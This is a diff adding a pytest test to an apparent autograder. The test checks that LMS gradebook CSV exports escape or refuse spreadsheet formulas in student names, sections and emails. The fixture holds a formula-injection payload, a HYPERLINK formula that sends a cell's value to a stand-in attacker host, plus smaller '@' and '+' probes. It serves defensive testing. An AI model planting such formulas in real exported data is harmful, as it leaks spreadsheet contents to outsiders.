@@ -8,6 +8,8 @@ it for that student only, or refuse to carry it into the grader.
 """
 from __future__ import annotations
 
+import csv
+import io
 import os
 import re
 import time
@@ -241,3 +243,30 @@ def test_a_copy_padded_with_dead_code_still_ranks_first(tmp_path):
     pairs = similarity.compare_class(submitted, "sprint2", specs)
     assert (pairs[0].a, pairs[0].b) == ("ann", "copier")
     assert pairs[0].score > 0.8 > 0.3 > pairs[1].score       # the mean of shares gave 0.44
+
+
+# --------------------------------------------------------------------------- LMS exports
+def test_no_export_cell_starts_a_formula_from_a_learners_display_name():
+    from autograder import lms
+
+    book = lms.Gradebook(["sprint1"], {"sprint1": 10.0},
+                         [lms.StudentTotals("ann", {"sprint1": 7.0}),
+                          lms.StudentTotals("bo", {"sprint1": 9.0})])
+    roster = {"ann": {"name": '=HYPERLINK("http://evil.example/?"&A1,"Ann")',
+                      "canvas_id": "101", "section": "@SUM(1+1)", "email": "ann@uni.example"},
+              "bo": {"name": "Bo", "canvas_id": "102", "section": "+A", "email": "bo@u.example"}}
+    for fmt in ("canvas", "generic", "moodle"):
+        text = lms.export(book, roster, fmt).text
+        rows = list(csv.reader(io.StringIO(text)))
+        for row in rows:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "@")), (fmt, cell)
+        if fmt != "moodle":
+            assert "'=HYPERLINK" in text            # shown, as text
+    # the column Canvas or Moodle matches a student on stays exact: refused, not altered
+    roster["ann"]["canvas_id"] = ""
+    with pytest.raises(lms.LmsError, match="formula"):
+        lms.export(book, roster, "canvas")
+    roster["ann"]["email"] = "=1+1@x.example"
+    with pytest.raises(lms.LmsError, match="formula"):
+        lms.export(book, roster, "moodle")
